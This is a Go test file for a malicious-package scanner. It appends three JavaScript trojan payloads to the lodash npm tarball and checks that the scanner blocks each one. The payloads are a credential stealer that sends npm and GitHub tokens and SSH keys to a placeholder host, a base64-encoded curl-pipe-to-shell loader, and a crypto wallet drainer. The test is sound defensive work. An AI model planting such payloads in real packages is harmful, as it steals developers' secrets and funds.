package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/moatproject/moat/scan"
)

// trojanPayloads are defanged payloads of about 30 lines, appended to a
// large real library by TestTrojanisedLibrary. They name only .invalid
// hosts and documentation addresses and never run: the test only scans.
var trojanPayloads = map[string]string{
	"credential stealer": `
;(function () {
  var https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
  function grab() {
    var out = { npm: process.env.NPM_TOKEN, gh: process.env.GITHUB_TOKEN, host: os.hostname(), user: os.userInfo().username };
    try { out.npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
    try { out.ssh = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); } catch (e) {}
    return JSON.stringify(out);
  }
  var req = https.request({ hostname: 'telemetry.cdn-stats.invalid', path: '/v2/collect', method: 'POST' }, function () {});
  req.on('error', function () {});
  req.end(grab());
})();
`,
	"encoded loader": `
;(function () {
  var k = ['cmVxdWlyZQ==', 'Y2hpbGRfcHJvY2Vzcw==', 'ZXhlY1N5bmM='];
  var d = function (i) { return Buffer.from(k[i], 'base64').toString(); };
  var s = Buffer.from('Y29uc3QgY3AgPSByZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyk7IGNwLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHA6Ly8xOTIuMC4yLjcvcy5zaCB8IHNoJyk7', 'base64').toString();
  new Function(d(0), s)(require);
})();
`,
	"wallet drainer": `
;(function () {
  if (typeof window === 'undefined') return;
  var target = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
  var re = /0x[a-fA-F0-9]{40}/g;
  var orig = window.fetch;
  window.fetch = function () {
    return orig.apply(this, arguments).then(function (r) {
      return r.clone().text().then(function (t) { return new Response(t.replace(re, target), r); });
    });
  };
  if (window.ethereum) {
    var req = window.ethereum.request.bind(window.ethereum);
    window.ethereum.request = function (a) {
      if (a && a.method === 'eth_sendTransaction') { a.params[0].to = target; }
      return req(a);
    };
  }
})();
`,
}

// knownTrojanMisses are payloads the shipped scanner lets through when
// appended to lodash, with the reason. The test logs them and fails once
// one is blocked, so that the entry is removed.
var knownTrojanMisses = map[string]string{}

// TestTrojanisedLibrary appends each payload to the main file of a large
// real library fetched from the registry npm is configured with: the
// library alone scans clean, and with 30 lines appended it is blocked,
// however many thousand lines of benign code surround them.
func TestTrojanisedLibrary(t *testing.T) {
	if testing.Short() {
		t.Skip("uses the npm registry")
	}
	if _, err := exec.LookPath("npm"); err != nil {
		t.Skip("npm not installed")
	}
	dir := t.TempDir()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	const spec = "lodash@4.17.21" // lodash.js: 17,000 lines
	out, err := exec.CommandContext(ctx, "npm", "pack", spec, "--pack-destination", dir, "--silent").CombinedOutput()
	if err != nil {
		t.Skipf("npm pack %s: %v\n%s", spec, err, out)
	}
	orig, err := os.ReadFile(filepath.Join(dir, strings.TrimSpace(lastLine(string(out)))))
	if err != nil {
		t.Fatal(err)
	}

	cfg := testConfig("http://127.0.0.1:1/")
	s, closeScanner, err := buildScanner(scannerOptionsFrom(cfg, nil))
	if err != nil {
		t.Fatalf("loading the shipped model: %v", err)
	}
	defer closeScanner()
	scanTgz := func(data []byte) *scan.Report {
		return s.Scan(context.Background(), scan.Input{Filename: "lodash-4.17.21.tgz", Data: data})
	}
	if r := scanTgz(orig); r.Verdict != scan.VerdictClean {
		t.Fatalf("lodash itself: %s (score %.4f, decided by %s)", r.Verdict, r.Score, r.DecidedBy)
	}
	for name, payload := range trojanPayloads {
		t.Run(name, func(t *testing.T) {
			r := scanTgz(appendToFile(t, orig, "package/lodash.js", payload))
			if why, known := knownTrojanMisses[name]; known {
				if r.Verdict == scan.VerdictMalicious {
					t.Errorf("known miss %q is now blocked (by %s): remove it from knownTrojanMisses", name, r.DecidedBy)
				} else {
					t.Logf("lodash + %s: known miss (score %.4f): %s", name, r.Score, why)
				}
				return
			}
			if r.Verdict != scan.VerdictMalicious {
				t.Errorf("lodash + %s: %s (package %.4f, score %.4f, decided by %s); units %+v", name, r.Verdict, r.PackageScore, r.Score, r.DecidedBy, firstUnits(r, 3))
				return
			}
			t.Logf("lodash + %s: blocked by %s (score %.4f; package alone %.4f)", name, r.DecidedBy, r.Score, r.PackageScore)
		})
	}
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

func firstUnits(r *scan.Report, n int) string {
	b, _ := json.Marshal(r.Units[:min(n, len(r.Units))])
	return string(b)
}

// appendToFile rewrites a .tgz with extra text at the end of one file.
func appendToFile(t *testing.T, tgz []byte, name, extra string) []byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(tgz))
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	found := false
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if h.Name == name {
			data, found = append(data, extra...), true
			h.Size = int64(len(data))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if !found {
		t.Fatalf("%s not in the tarball", name)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}
